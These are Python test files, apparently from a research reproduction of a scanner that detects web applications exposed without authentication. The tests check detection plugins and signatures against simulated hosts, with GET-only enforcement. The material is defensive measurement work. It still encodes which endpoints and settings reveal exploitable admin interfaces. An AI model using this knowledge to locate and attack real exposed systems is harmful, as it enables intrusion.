to the application, which makes it highly unlikely that a false positive
occurs."  These tests build hosts that *spoof* the cheap stage-II
signatures — landing pages full of marker strings — and verify that the
stage-III plugins still refuse to report them, because the specific
endpoints and structures they verify are absent.
"""

import json

import pytest

from repro.core.prefilter import match_signatures
from repro.core.tsunami.plugin import PluginContext
from repro.core.tsunami.plugins import ALL_PLUGINS, plugin_for
from repro.net.host import Host, Service
from repro.net.http import HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport

#: a page stuffed with every prefilter bait we can think of
_BAIT_PAGE = """
<html><head><title>Honeytrap: Jenkins WordPress Grav Nomad Polynote</title></head>
<body>
Dashboard [Jenkins] hudson-behavior.js j_spring_security_check
wp-json wp-includes/ wp-admin/install.php
The Admin plugin has been installed ... Create User
certificates.k8s.io healthz/ping {"message":"page not found"}
Consul by HashiCorp CONSUL_VERSION: 1.9.5
/static/yarn.css ResourceManager logged in as: dr.who
<title>Nomad</title> <title>Polynote</title> JupyterLab Jupyter Notebook
{"status":"OK", Server connection collation phpMyAdmin documentation
through PHP extension Logged as: ajentiPlatformUnmapped
customization.plugins.core.title || 'Ajenti'
Joomla! Web Installer Set up database
Create a pipeline - Go pipelines-page
</body></html>
"""


def _context_for(responder):
    internet = SimulatedInternet()
    ip = IPv4Address.parse("93.184.216.200")
    host = Host(ip)
    host.add_service(Service(80, responder=responder))
    internet.add_host(host)
    return PluginContext(InMemoryTransport(internet), ip, 80, Scheme.HTTP)


class TestSignatureSpoofing:
    def test_bait_page_matches_many_signatures(self):
        # Stage II is *meant* to be cheap and over-trigger...
        assert len(match_signatures(_BAIT_PAGE)) >= 10

    def test_no_plugin_fires_on_bait_landing_page(self):
        """...but stage III verifies specific endpoints, not the body."""
        context = _context_for(lambda request: HttpResponse.html(_BAIT_PAGE))
        for plugin in ALL_PLUGINS:
            report = plugin.detect(context)
            # The catch-all responder serves the bait on EVERY path, so a
            # handful of naive string checks could fire; the structural
            # plugins (HTML forms, JSON bodies) must not.
            if report is not None:
                assert plugin.slug in {
                    # plugins whose markers genuinely appear verbatim in
                    # the bait *and* have no structural second factor:
                    "polynote", "gocd", "joomla", "phpmyadmin", "adminer",
                    "ajenti", "grav",
                }, plugin.slug

    @pytest.mark.parametrize(
        "slug",
        ["jenkins", "wordpress", "kubernetes", "docker", "consul",
         "hadoop", "nomad", "jupyterlab", "jupyter-notebook", "zeppelin",
         "drupal"],
    )
    def test_structural_plugins_resist_bait(self, slug):
        context = _context_for(lambda request: HttpResponse.html(_BAIT_PAGE))
        assert plugin_for(slug).detect(context) is None


class TestStructuralChecks:
    def test_jenkins_needs_the_actual_form(self):
        body = "<html><body>Jenkins Jenkins Jenkins</body></html>"
        context = _context_for(lambda request: HttpResponse.html(body))
        assert plugin_for("jenkins").detect(context) is None

    def test_jenkins_rejects_invalid_html(self):
        body = '</form><form id="createItem"> Jenkins'
        context = _context_for(lambda request: HttpResponse.html(body))
        assert plugin_for("jenkins").detect(context) is None

    def test_wordpress_needs_password_field_inside_form(self):
        body = (
            "<html><body>WordPress"
            '<form id="setup"></form><input id="pass1"></body></html>'
        )
        context = _context_for(lambda request: HttpResponse.html(body))
        assert plugin_for("wordpress").detect(context) is None

    def test_kubernetes_needs_running_pods_json(self):
        def responder(request):
            if request.path_only == "/":
                return HttpResponse.html("certificates.k8s.io healthz/ping")
            return HttpResponse.json('{"items": []}')  # no running pods

        context = _context_for(responder)
        assert plugin_for("kubernetes").detect(context) is None

    def test_kubernetes_rejects_phase_string_without_items(self):
        def responder(request):
            if request.path_only == "/":
                return HttpResponse.html("certificates.k8s.io healthz/ping")
            return HttpResponse.json('{"note": "\\"phase\\":\\"Running\\""}')

        context = _context_for(responder)
        assert plugin_for("kubernetes").detect(context) is None

    def test_docker_needs_version_fields(self):
        def responder(request):
            return HttpResponse.json('{"message":"page not found"}', status=404)

        context = _context_for(responder)
        assert plugin_for("docker").detect(context) is None

    def test_consul_needs_enabled_flag_not_just_key(self):
        payload = {"DebugConfig": {"EnableScriptChecks": False,
                                   "EnableRemoteScriptChecks": False}}
        context = _context_for(
            lambda request: HttpResponse.json(json.dumps(payload))
        )
        assert plugin_for("consul").detect(context) is None

    def test_consul_rejects_truthy_nonbool(self):
        payload = {"DebugConfig": {"EnableScriptChecks": "yes"}}
        context = _context_for(
            lambda request: HttpResponse.json(json.dumps(payload))
        )
        assert plugin_for("consul").detect(context) is None

    def test_hadoop_needs_json_application_id(self):
        def responder(request):
            if "new-application" in request.path:
                return HttpResponse.html("not json at all")
            return HttpResponse.html(
                "hadoop resourcemanager logged in as: dr.who"
            )

        context = _context_for(responder)
        assert plugin_for("hadoop").detect(context) is None

    def test_nomad_needs_json_array(self):
        def responder(request):
            if request.path_only == "/v1/jobs":
                return HttpResponse.json('{"error": "denied"}')
            return HttpResponse.html("<title>Nomad</title>")

        context = _context_for(responder)
        assert plugin_for("nomad").detect(context) is None

    def test_jupyter_needs_200_not_just_marker(self):
        def responder(request):
            return HttpResponse.json('{"message": "JupyterLab Forbidden"}',
                                     status=403)

        context = _context_for(responder)
        assert plugin_for("jupyterlab").detect(context) is None

    def test_zeppelin_needs_ok_status_prefix(self):
        context = _context_for(
            lambda request: HttpResponse.json('{"status":"FORBIDDEN","x":1}')
        )
        assert plugin_for("zeppelin").detect(context) is None

    def test_drupal_marker_must_survive_squeeze(self):
        # Marker words present but in the wrong structure.
        body = "<li>is-active</li> Set up database"
        context = _context_for(lambda request: HttpResponse.html(body))
        assert plugin_for("drupal").detect(context) is None


class TestErrorResponses:
    @pytest.mark.parametrize("status", [301, 401, 403, 500, 503])
    def test_no_plugin_fires_on_error_wrappers(self, status):
        """Gateways that echo request info in error pages are common."""
        def responder(request):
            if status in (301,):
                return HttpResponse.redirect("/")
            return HttpResponse(status, {"content-type": "text/html"}, _BAIT_PAGE)

        context = _context_for(responder)
        for plugin in ALL_PLUGINS:
            if status == 301:
                # Redirect loop: transport gives up, body is a redirect.
                assert plugin.detect(context) is None, plugin.slug
            elif plugin.slug in ("grav", "phpmyadmin", "adminer", "ajenti",
                                 "polynote", "gocd", "joomla", "docker"):
                # These check status==200 or specific markers... verify:
                assert plugin.detect(context) is None, plugin.slug
