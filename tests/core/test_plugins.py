"""Tests for the 18 Tsunami MAV detection plugins.

The contract per plugin: it reports on a vulnerable instance of its
application, stays silent on a secured instance, stays silent on every
*other* application, and never sends a state-changing request.
"""

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance, in_scope_apps
from repro.core.tsunami.plugin import PluginContext
from repro.core.tsunami.plugins import ALL_PLUGINS, plugin_for
from repro.net.host import Host, Service
from repro.net.http import Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport

IN_SCOPE = [spec.slug for spec in in_scope_apps()]


def make_context(app, port=80, scheme=Scheme.HTTP):
    internet = SimulatedInternet()
    ip = IPv4Address.parse("203.0.113.99")
    host = Host(ip)
    host.add_service(Service(port, frozenset({scheme}), app=AppInstance(app, port)))
    internet.add_host(host)
    transport = InMemoryTransport(internet)  # ethics enforced!
    return PluginContext(transport, ip, port, scheme)


class TestRegistry:
    def test_one_plugin_per_in_scope_app(self):
        assert {p.slug for p in ALL_PLUGINS} == set(IN_SCOPE)
        assert len(ALL_PLUGINS) == 18

    def test_plugin_for_unknown(self):
        assert plugin_for("ghost") is None


class TestDetection:
    @pytest.mark.parametrize("slug", IN_SCOPE)
    def test_detects_vulnerable_instance(self, slug):
        app = create_instance(slug, vulnerable=True)
        context = make_context(app)
        report = plugin_for(slug).detect(context)
        assert report is not None
        assert report.slug == slug

    @pytest.mark.parametrize("slug", [s for s in IN_SCOPE if s != "polynote"])
    def test_silent_on_secured_instance(self, slug):
        app = create_instance(slug)
        context = make_context(app)
        assert plugin_for(slug).detect(context) is None

    @pytest.mark.parametrize("slug", IN_SCOPE)
    def test_silent_on_dark_host(self, slug):
        transport = InMemoryTransport(SimulatedInternet())
        context = PluginContext(
            transport, IPv4Address.parse("203.0.113.98"), 80, Scheme.HTTP
        )
        assert plugin_for(slug).detect(context) is None

    def test_cross_application_silence(self):
        """No plugin may fire on a different (vulnerable!) application."""
        instances = {
            slug: create_instance(slug, vulnerable=True) for slug in IN_SCOPE
        }
        for target_slug, app in instances.items():
            context = make_context(app)
            for plugin in ALL_PLUGINS:
                if plugin.slug == target_slug:
                    continue
                assert plugin.detect(context) is None, (
                    f"{plugin.slug} plugin fired on {target_slug}"
                )

    @pytest.mark.parametrize("slug", IN_SCOPE)
    def test_only_get_requests(self, slug):
        """Ethics: transport enforcement would raise on any POST."""
        app = create_instance(slug, vulnerable=True)
        context = make_context(app)
        plugin_for(slug).detect(context)  # would raise EthicsViolation


class TestSpecificBehaviours:
    def test_consul_exposed_but_hardened_not_flagged(self):
        """Exposure alone is not the Consul MAV: script checks must be on."""
        app = create_instance("consul")  # agent API is exposed by default
        context = make_context(app, port=8500)
        assert plugin_for("consul").detect(context) is None

    def test_consul_remote_script_checks_also_flagged(self):
        from repro.apps.cluster import Consul

        app = Consul("1.9", {"enable_remote_script_checks": True})
        context = make_context(app, port=8500)
        report = plugin_for("consul").detect(context)
        assert report is not None
        assert "Remote" in report.details

    def test_jupyter_plugins_distinguish_lab_and_notebook(self):
        lab = create_instance("jupyterlab", vulnerable=True)
        context = make_context(lab, port=8888)
        assert plugin_for("jupyterlab").detect(context) is not None
        assert plugin_for("jupyter-notebook").detect(context) is None

    def test_wordpress_half_installed_page_not_flagged(self):
        """An installed blog that merely links install.php is not a MAV."""
        app = create_instance("wordpress")
        context = make_context(app)
        assert plugin_for("wordpress").detect(context) is None

    def test_drupal_detection_spans_markup_variants(self):
        for version in ("8.6", "9.1"):
            app = create_instance("drupal", version=version, vulnerable=True)
            context = make_context(app)
            assert plugin_for("drupal").detect(context) is not None, version

    def test_adminer_plugin_needs_old_version(self):
        from repro.apps.panels import Adminer

        new = Adminer("4.8", {"root_password_empty": True})
        context = make_context(new)
        assert plugin_for("adminer").detect(context) is None

    def test_report_str(self):
        app = create_instance("polynote")
        context = make_context(app, port=8192)
        report = plugin_for("polynote").detect(context)
        assert "polynote" in str(report)


class TestEngine:
    def test_runs_only_candidate_plugins(self):
        from repro.core.tsunami.engine import TsunamiEngine

        app = create_instance("docker", vulnerable=True)
        internet = SimulatedInternet()
        ip = IPv4Address.parse("203.0.113.97")
        host = Host(ip)
        host.add_service(Service(2375, app=AppInstance(app, 2375)))
        internet.add_host(host)
        engine = TsunamiEngine(InMemoryTransport(internet))
        reports = engine.scan_target(ip, 2375, Scheme.HTTP, ("docker",))
        assert [r.slug for r in reports] == ["docker"]
        assert engine.stats.plugins_run == 1
        assert engine.stats.runs_per_plugin == {"docker": 1}

    def test_unknown_candidates_ignored(self):
        from repro.core.tsunami.engine import TsunamiEngine

        engine = TsunamiEngine(InMemoryTransport(SimulatedInternet()))
        assert engine.scan_target(
            IPv4Address(5), 80, Scheme.HTTP, ("ghost", "nonsense")
        ) == []

    def test_crashing_plugin_is_contained(self):
        from repro.core.tsunami.engine import TsunamiEngine
        from repro.core.tsunami.plugin import MavDetectionPlugin

        class Broken(MavDetectionPlugin):
            slug = "broken"

            def detect(self, context):
                raise RuntimeError("boom")

        app = create_instance("polynote")
        internet = SimulatedInternet()
        ip = IPv4Address.parse("203.0.113.96")
        host = Host(ip)
        host.add_service(Service(8192, app=AppInstance(app, 8192)))
        internet.add_host(host)
        engine = TsunamiEngine(
            InMemoryTransport(internet),
            plugins=(Broken(), plugin_for("polynote")),
        )
        reports = engine.scan_target(ip, 8192, Scheme.HTTP, ("broken", "polynote"))
        assert [r.slug for r in reports] == ["polynote"]
        assert engine.stats.plugin_errors == 1
