"""Signature precision matrix: recall on own pages, zero cross-app hits.

This is the committed regression twin of the lint signature auditor's
corpus pass (SIG004/SIG005): every prefilter signature must match at
least one canned page of its own application and no canned page of any
other application.  A new emulator page or a loosened regex that breaks
either property fails here with the offending pattern named.
"""

from __future__ import annotations

import re

import pytest

from repro.core.prefilter import SIGNATURES
from repro.lint.corpus import build_corpus

SLUGS = sorted(SIGNATURES)


@pytest.fixture(scope="module")
def corpus():
    return build_corpus()


def test_corpus_covers_every_signature_slug(corpus):
    assert sorted(corpus) == SLUGS


@pytest.mark.parametrize("slug", SLUGS)
def test_every_signature_matches_an_own_page(corpus, slug):
    pages = corpus[slug]
    dead = [
        pattern
        for pattern in SIGNATURES[slug]
        if not any(re.search(pattern, body) for body in pages.values())
    ]
    assert not dead, (
        f"{slug}: signatures match none of the app's own canned pages "
        f"({len(pages)} pages probed): {dead}"
    )


@pytest.mark.parametrize("slug", SLUGS)
def test_no_signature_matches_another_apps_pages(corpus, slug):
    collisions = []
    for pattern in SIGNATURES[slug]:
        regex = re.compile(pattern)
        for other, pages in corpus.items():
            if other == slug:
                continue
            for page_id, body in pages.items():
                if regex.search(body):
                    collisions.append((pattern, other, page_id))
    assert not collisions, (
        f"{slug}: signatures also match other applications' pages "
        f"(pattern, app, page): {collisions}"
    )
