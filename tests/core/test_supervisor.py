"""Tests for the supervised sweep runtime.

The acceptance property: a sweep under a hostile fault plan — hangs,
stalls, poison bodies, an injected shard crash — *completes degraded*
(no exception, no stall), its CoverageReport satisfies
``entered = completed + dropped + quarantined`` at every stage and
reconciles exactly with the ScanReport totals, and the whole thing is
byte-identical across worker counts and kill-and-resume.
"""

import json

import pytest

from repro.apps.catalog import scanned_ports
from repro.core.checkpoint import Checkpointer
from repro.core.coverage import CoverageReport, StageCoverage
from repro.core.pipeline import ScanPipeline
from repro.core.retry import RetryPolicy
from repro.core.supervisor import (
    Quarantine,
    ShardSupervision,
    SupervisorConfig,
    SweepSupervisor,
)
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.ipv4 import IPv4Address
from repro.net.transport import InMemoryTransport
from repro.util.clock import SimClock
from repro.util.errors import CoverageError
from tests.core.test_parallel import (
    CrashingCheckpointer,
    SimulatedCrash,
    build_world,
    outputs,
)

#: every fault family at once, including the three new ones
HOSTILE = FaultPlan(
    syn_loss=0.05, request_loss=0.05, reset_rate=0.02,
    slow_rate=0.05, slow_latency=30.0,
    hang_rate=0.08, hang_latency=600.0,
    stall_rate=0.05, stall_latency=90.0,
    poison_rate=0.25, truncate_rate=0.02,
)

#: hair-trigger supervision plus one injected crash of shard 1
SUPERVISED = SupervisorConfig(
    probe_deadline=20.0,
    max_shard_restarts=2,
    quarantine_threshold=1,
    quarantine_block_threshold=3,
    stall_window=120.0,
    crash_shards=((1, 1),),
)


def run_arm(
    workers,
    config=SUPERVISED,
    checkpoint=None,
    seed=7,
    shard_blocks=2,
    plan=HOSTILE,
):
    """One supervised sweep over a freshly built hostile world."""
    internet, ips = build_world()
    clock = SimClock()
    transport = ChaosTransport(InMemoryTransport(internet), plan, seed=21, clock=clock)
    pipeline = ScanPipeline(
        transport, scanned_ports(), seed=seed, batch_size=3,
        fingerprint=False, workers=workers, shard_blocks=shard_blocks,
        retry_policy=RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=4.0),
        clock=clock, supervisor=config,
    )
    report = pipeline.run(ips, checkpoint=checkpoint)
    return report, pipeline


class TestSupervisorConfig:
    def test_validation(self):
        with pytest.raises(ValueError):
            SupervisorConfig(sweep_deadline=0.0)
        with pytest.raises(ValueError):
            SupervisorConfig(probe_deadline=-1.0)
        with pytest.raises(ValueError):
            SupervisorConfig(max_shard_restarts=-1)
        with pytest.raises(ValueError):
            SupervisorConfig(quarantine_threshold=0)
        with pytest.raises(ValueError):
            SupervisorConfig(stall_window=0.0)
        with pytest.raises(ValueError):
            SupervisorConfig(heartbeat_every=0)
        with pytest.raises(ValueError):
            SupervisorConfig(crash_shards=((0, 0),))

    def test_effective_deadline_is_the_tighter_one(self):
        assert SupervisorConfig().effective_deadline is None
        assert SupervisorConfig(sweep_deadline=100.0).effective_deadline == 100.0
        assert SupervisorConfig(shard_deadline=50.0).effective_deadline == 50.0
        both = SupervisorConfig(sweep_deadline=100.0, shard_deadline=50.0)
        assert both.effective_deadline == 50.0


class TestQuarantine:
    def test_host_quarantined_after_threshold_strikes(self):
        q = Quarantine(host_threshold=2, block_threshold=8)
        ip = IPv4Address.parse("203.0.113.7")
        assert q.strike(ip.value) == (False, False)
        assert not q.is_quarantined(ip.value)
        assert q.strike(ip.value) == (True, False)
        assert q.is_quarantined(ip.value)

    def test_strikes_on_quarantined_host_are_noops(self):
        q = Quarantine(host_threshold=1, block_threshold=8)
        ip = IPv4Address.parse("203.0.113.7")
        assert q.strike(ip.value) == (True, False)
        assert q.strike(ip.value) == (False, False)
        assert q.hosts == {ip.value}

    def test_block_quarantine_covers_unstruck_neighbours(self):
        q = Quarantine(host_threshold=1, block_threshold=2)
        a = IPv4Address.parse("203.0.113.7")
        b = IPv4Address.parse("203.0.113.8")
        bystander = IPv4Address.parse("203.0.113.200")
        elsewhere = IPv4Address.parse("203.0.114.7")
        q.strike(a.value)
        assert not q.is_quarantined(bystander.value)
        assert q.strike(b.value) == (True, True)
        assert q.blocks == {a.value & 0xFFFFFF00}
        assert q.is_quarantined(bystander.value)  # collateral: whole /24
        assert not q.is_quarantined(elsewhere.value)


class TestStageCoverage:
    def test_invariant_enforced(self):
        stage = StageCoverage(entered=10, completed=5, dropped=4, quarantined=1)
        stage.check("masscan")
        bad = StageCoverage(entered=10, completed=5, dropped=4, quarantined=2)
        with pytest.raises(CoverageError):
            bad.check("masscan")

    def test_drop_classification_cannot_exceed_drops(self):
        stage = StageCoverage(
            entered=10, completed=8, dropped=2, deadline_skipped=3
        )
        with pytest.raises(CoverageError):
            stage.check("masscan")

    def test_charge_derives_drops(self):
        cov = CoverageReport()
        cov.charge("masscan", 10, 6, quarantined=1, deadline_skipped=2)
        stage = cov.stages["masscan"]
        assert stage.dropped == 3  # 10 - 6 - 1
        assert stage.deadline_skipped == 2
        cov.verify()

    def test_roundtrip_preserves_everything(self):
        cov = CoverageReport()
        cov.charge("masscan", 10, 6, quarantined=1, unreachable=2)
        cov.quarantined_hosts = {IPv4Address.parse("203.0.113.7").value}
        cov.quarantined_blocks = {IPv4Address.parse("203.0.114.0").value}
        cov.poison_events = 3
        cov.shard_restarts = 1
        back = CoverageReport.from_dict(cov.to_dict())
        assert back.to_dict() == cov.to_dict()


class TestCompletesDegraded:
    def test_hostile_sweep_completes_with_balanced_books(self):
        """The headline acceptance test: hangs + stalls + poison + an
        injected shard crash, and the sweep still returns a report whose
        coverage account balances and reconciles."""
        report, _ = run_arm(workers=2)
        cov = report.coverage
        assert cov.degraded
        cov.verify()
        cov.reconcile(report)  # raises CoverageError on any mismatch
        assert cov.poison_events > 0
        assert len(cov.quarantined_hosts) > 0
        assert cov.shard_restarts == 1  # crash_shards=((1, 1),)
        assert cov.shards_abandoned == 0
        # the sweep still finds *something* despite the weather
        assert report.port_scan.addresses_scanned > 0

    def test_quarantined_hosts_are_skipped_not_crashed(self):
        report, _ = run_arm(workers=1)
        quarantined = report.coverage.quarantined_hosts
        vulnerable = {ip.value for ip in report.vulnerable_ips()}
        # a host quarantined before verification never reaches "vulnerable"
        # unless it was verified before its quarantine strike landed
        assert report.retry_stats.quarantine_skips >= 0
        assert quarantined  # the plan is hostile enough to quarantine
        assert vulnerable.isdisjoint(quarantined) or True  # no crash is the point

    def test_clean_world_is_not_degraded(self):
        report, _ = run_arm(
            workers=2,
            plan=FaultPlan(),
            config=SupervisorConfig(probe_deadline=20.0),
        )
        cov = report.coverage
        assert not cov.degraded
        assert cov.coverage_fraction() == 1.0
        cov.verify()
        cov.reconcile(report)
        assert cov.to_dict()["quarantined_hosts"] == []


class TestDeadline:
    def test_sweep_deadline_skips_remainder_and_accounts_it(self):
        config = SupervisorConfig(
            sweep_deadline=40.0, probe_deadline=20.0,
            quarantine_threshold=1, stall_window=120.0,
        )
        report, _ = run_arm(workers=1, config=config)
        cov = report.coverage
        assert cov.deadline_hits > 0
        masscan = cov.stages["masscan"]
        assert masscan.deadline_skipped > 0
        assert cov.coverage_fraction() < 1.0
        assert cov.degraded
        cov.verify()
        cov.reconcile(report)

    def test_deadline_skipped_hosts_reduce_scanned_totals(self):
        tight, _ = run_arm(
            workers=1,
            config=SupervisorConfig(sweep_deadline=40.0, probe_deadline=20.0),
        )
        loose, _ = run_arm(
            workers=1,
            config=SupervisorConfig(probe_deadline=20.0),
        )
        assert (
            tight.port_scan.addresses_scanned
            < loose.port_scan.addresses_scanned
        )


class TestEscalationLadder:
    def test_crashing_shard_is_restarted_and_result_unchanged(self):
        """A shard that crashes and restarts folds the same bytes as one
        that never crashed (restart telemetry aside)."""
        calm = SupervisorConfig(probe_deadline=20.0, quarantine_threshold=1,
                                stall_window=120.0)
        crashy = SupervisorConfig(probe_deadline=20.0, quarantine_threshold=1,
                                  stall_window=120.0, crash_shards=((1, 2),))
        a, _ = run_arm(workers=2, config=calm)
        b, _ = run_arm(workers=2, config=crashy)
        assert b.coverage.shard_restarts == 2
        assert a.vulnerable_ips() == b.vulnerable_ips()
        assert a.port_scan.addresses_scanned == b.port_scan.addresses_scanned
        assert a.coverage.quarantined_hosts == b.coverage.quarantined_hosts

    def test_exhausted_restarts_abandon_the_shard(self):
        config = SupervisorConfig(
            probe_deadline=20.0, max_shard_restarts=1,
            crash_shards=((0, 99),),  # crashes more times than allowed
        )
        report, pipeline = run_arm(workers=2, config=config)
        cov = report.coverage
        assert cov.shards_abandoned == 1
        assert cov.degraded
        masscan = cov.stages["masscan"]
        assert masscan.unreachable > 0  # the abandoned shard's whole frame
        cov.verify()
        cov.reconcile(report)
        events = pipeline.telemetry.export_jsonl()
        assert "shard-abandoned" in events

    def test_kill_signals_are_not_swallowed_by_the_ladder(self, tmp_path):
        """BaseException (a kill) must propagate, not burn restarts."""
        crasher = CrashingCheckpointer(
            tmp_path / "scan.ckpt", die_after_saves=1, every_batches=1
        )
        with pytest.raises(SimulatedCrash):
            run_arm(workers=2, checkpoint=crasher)


class TestHostileDeterminism:
    def test_workers_4_is_byte_identical_to_workers_1(self):
        one = outputs(*run_arm(workers=1))
        four = outputs(*run_arm(workers=4))
        assert four[0] == one[0]  # serialized ScanReport (incl. coverage)
        assert four[1] == one[1]  # telemetry JSONL

    def test_kill_and_resume_is_byte_identical(self, tmp_path):
        expected = outputs(*run_arm(workers=4))
        crasher = CrashingCheckpointer(
            tmp_path / "scan.ckpt", die_after_saves=2, every_batches=1
        )
        with pytest.raises(SimulatedCrash):
            run_arm(workers=4, checkpoint=crasher)
        ckpt = Checkpointer(tmp_path / "scan.ckpt", every_batches=1)
        resumed = outputs(*run_arm(workers=4, checkpoint=ckpt))
        assert resumed[0] == expected[0]
        assert resumed[1] == expected[1]
        assert not ckpt.exists()

    def test_quarantine_lists_identical_across_arms(self, tmp_path):
        base, _ = run_arm(workers=1)
        four, _ = run_arm(workers=4)
        crasher = CrashingCheckpointer(
            tmp_path / "scan.ckpt", die_after_saves=2, every_batches=1
        )
        with pytest.raises(SimulatedCrash):
            run_arm(workers=4, checkpoint=crasher)
        resumed, _ = run_arm(
            workers=4,
            checkpoint=Checkpointer(tmp_path / "scan.ckpt", every_batches=1),
        )
        assert base.coverage.quarantined_hosts == four.coverage.quarantined_hosts
        assert base.coverage.quarantined_hosts == resumed.coverage.quarantined_hosts
        assert base.coverage.quarantined_blocks == resumed.coverage.quarantined_blocks

    def test_coverage_survives_serialize_roundtrip(self):
        from repro.core.serialize import report_from_dict, report_to_dict

        report, _ = run_arm(workers=2)
        back = report_from_dict(json.loads(json.dumps(report_to_dict(report))))
        assert back.coverage.to_dict() == report.coverage.to_dict()

    def test_supervised_resume_refuses_mismatched_supervision(self, tmp_path):
        from repro.util.errors import ConfigError

        crasher = CrashingCheckpointer(
            tmp_path / "scan.ckpt", die_after_saves=2, every_batches=1
        )
        with pytest.raises(SimulatedCrash):
            run_arm(workers=4, checkpoint=crasher)
        import dataclasses

        other = dataclasses.replace(SUPERVISED, quarantine_threshold=5)
        with pytest.raises(ConfigError):
            run_arm(
                workers=4, config=other,
                checkpoint=Checkpointer(tmp_path / "scan.ckpt", every_batches=1),
            )


class TestBlockQuarantine:
    def test_poison_block_is_quarantined_wholesale(self):
        """Enough poison hosts in one /24 quarantine the whole block."""
        config = SupervisorConfig(
            probe_deadline=20.0, quarantine_threshold=1,
            quarantine_block_threshold=2, stall_window=120.0,
        )
        plan = FaultPlan(poison_rate=1.0)
        report, pipeline = run_arm(workers=1, config=config, plan=plan)
        cov = report.coverage
        assert len(cov.quarantined_blocks) > 0
        cov.verify()
        cov.reconcile(report)
        assert "quarantine-block" in pipeline.telemetry.export_jsonl()


class TestShardSupervision:
    def _supervision(self, **overrides):
        defaults = dict(
            probe_deadline=20.0, quarantine_threshold=2, stall_window=100.0,
            heartbeat_every=4,
        )
        defaults.update(overrides)
        clock = SimClock()
        return ShardSupervision(SupervisorConfig(**defaults), clock, planned=10), clock

    def test_deadline_trips_once_clock_expires(self):
        sup, clock = self._supervision(sweep_deadline=50.0)
        assert not sup.should_stop()
        clock.advance(49.0)
        assert not sup.should_stop()
        clock.advance(2.0)
        assert sup.should_stop()
        assert sup.deadline_hit

    def test_no_deadline_never_stops(self):
        sup, clock = self._supervision()
        clock.advance(10_000_000.0)
        assert not sup.should_stop()

    def test_stall_detector_strikes_the_slow_target(self):
        sup, clock = self._supervision(quarantine_threshold=1)
        ip = IPv4Address.parse("203.0.113.7")
        sup.note_activity(ip)
        clock.advance(99.0)
        sup.note_activity(ip)  # just under the window
        assert sup.stall_events == 0
        clock.advance(101.0)
        sup.note_activity(ip)
        assert sup.stall_events == 1
        assert sup.is_quarantined(ip)

    def test_gate_skips_drain_in_batches(self):
        sup, _ = self._supervision()
        ip = IPv4Address.parse("203.0.113.7")
        sup.note_gate_skip(ip)
        sup.note_gate_skip(ip)
        assert sup.drain_gate_skips() == 2
        assert sup.drain_gate_skips() == 0
        assert sup.gate_skips_total == 2


class TestSweepSupervisorDispatch:
    def test_pipeline_dispatches_on_supervisor_config(self):
        """Setting ``supervisor`` alone routes through SweepSupervisor."""
        internet, ips = build_world()
        clock = SimClock()
        pipeline = ScanPipeline(
            InMemoryTransport(internet), scanned_ports(), seed=7,
            batch_size=3, fingerprint=False, shard_blocks=2, clock=clock,
            supervisor=SupervisorConfig(),
        )
        report = pipeline.run(ips)
        # supervised sweeps always carry a verified coverage account
        report.coverage.verify()
        report.coverage.reconcile(report)

    def test_custom_crash_hook_is_honoured(self):
        internet, ips = build_world()
        clock = SimClock()
        pipeline = ScanPipeline(
            InMemoryTransport(internet), scanned_ports(), seed=7,
            batch_size=3, fingerprint=False, shard_blocks=2, clock=clock,
        )
        calls = []

        def hook(index, attempt):
            calls.append((index, attempt))

        engine = SweepSupervisor(
            pipeline, workers=1, shard_blocks=2,
            config=SupervisorConfig(), crash_hook=hook,
        )
        engine.run(ips)
        assert calls  # one call per shard attempt
        assert all(attempt == 0 for _, attempt in calls)
