"""Registry completeness: every in-scope app is wired end to end.

Each catalog slug must have exactly five prefilter signatures, a
registered Tsunami plugin, a release history, and some way to fingerprint
the deployed version (either the app discloses it or the knowledge base
hashes its static files).  Failure messages name the missing piece so the
fix is obvious.
"""

from __future__ import annotations

import pytest

from repro.apps.catalog import in_scope_apps
from repro.apps.versions import RELEASE_DB
from repro.core.fingerprint.knowledge_base import build_default_knowledge_base
from repro.core.prefilter import SIGNATURES
from repro.core.tsunami.plugins import ALL_PLUGINS, plugin_for

IN_SCOPE = in_scope_apps()
SLUGS = [spec.slug for spec in IN_SCOPE]


@pytest.fixture(scope="module")
def knowledge_base():
    return build_default_knowledge_base()


def test_in_scope_catalog_has_18_apps():
    assert len(SLUGS) == 18


@pytest.mark.parametrize("slug", SLUGS)
def test_exactly_five_signatures(slug):
    patterns = SIGNATURES.get(slug, ())
    assert len(patterns) == 5, (
        f"{slug}: expected 5 prefilter signatures in "
        f"repro.core.prefilter.SIGNATURES, found {len(patterns)}"
    )


@pytest.mark.parametrize("slug", SLUGS)
def test_plugin_registered(slug):
    assert plugin_for(slug) is not None, (
        f"{slug}: no Tsunami plugin registered in "
        "repro.core.tsunami.plugins.ALL_PLUGINS"
    )


def test_no_orphan_plugins():
    orphans = {p.slug for p in ALL_PLUGINS} - set(SLUGS)
    assert not orphans, (
        f"plugins registered for slugs outside the in-scope catalog: "
        f"{sorted(orphans)}"
    )


@pytest.mark.parametrize("slug", SLUGS)
def test_release_history_present(slug):
    assert RELEASE_DB.releases(slug), (
        f"{slug}: no releases in repro.apps.versions.RELEASE_DB — "
        "version sampling cannot assign this app a version"
    )


@pytest.mark.parametrize("spec", IN_SCOPE, ids=SLUGS)
def test_version_fingerprintable(spec, knowledge_base):
    disclosed = spec.emulator.discloses_version
    hashed = knowledge_base.paths_for(spec.slug)
    assert disclosed or hashed, (
        f"{spec.slug}: version is neither disclosed on a page "
        "(emulator.discloses_version) nor recoverable from hashed static "
        "files (knowledge base has no paths for it)"
    )
