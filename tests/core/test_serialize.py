"""Tests for scan-report serialisation."""

import json

import pytest

from repro.core.serialize import (
    load_report,
    report_from_dict,
    report_to_dict,
    save_report,
)


class TestRoundTrip:
    def test_counts_survive(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        assert rebuilt.hosts_per_app() == original.hosts_per_app()
        assert rebuilt.mavs_per_app() == original.mavs_per_app()
        assert rebuilt.total_awe_hosts() == original.total_awe_hosts()

    def test_port_scan_survives(self, tiny_scan_study):
        original = tiny_scan_study.report
        rebuilt = report_from_dict(report_to_dict(original))
        assert rebuilt.port_scan.open_ports == original.port_scan.open_ports
        assert rebuilt.port_scan.probes_sent == original.port_scan.probes_sent

